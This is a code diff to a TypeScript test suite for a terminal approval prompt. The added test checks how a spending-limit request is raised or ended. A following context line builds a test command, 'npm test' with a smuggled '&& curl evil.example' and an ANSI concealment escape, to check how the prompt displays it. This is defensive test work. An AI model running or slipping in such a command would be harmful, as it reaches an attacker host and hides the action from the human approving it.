@@ -69,6 +69,23 @@ const never = new AbortController().signal;
 const asked = (shown: Sink): Promise<void> => until(() => shown.text.includes('[y]'));
 
 describe('a question at the terminal', () => {
+  it('asks for more of a limit, and takes nothing for an end of the run', async () => {
+    const { approver, input, shown, close } = desk();
+    const limit = { limit: 'usd', used: 0.97, allowed: 1, next: 0.05 } as const;
+    const raised = approver.askLimit?.(limit, never);
+    await until(() => shown.text.includes('> '));
+    input.write('0.5\n');
+    await until(() => shown.text.includes('Please answer'));
+    input.write('$2.50\n');
+    assert.equal(await raised, 2.5);
+    assert.match(shown.text, /\? Go on with more than \$1\.00\?/);
+    const ended = approver.askLimit?.(limit, never);
+    await until(() => shown.text.split('Go on with').length === 3);
+    input.write('\n');
+    assert.equal(await ended, null);
+    close();
+  });
+
   it('shows what, where, how long, why and the keys', async () => {
     const { approver, input, shown, close } = desk();
     const answer = approver.ask(question(exec('npm test\n&& curl evil.example\u001b[8m')), never);
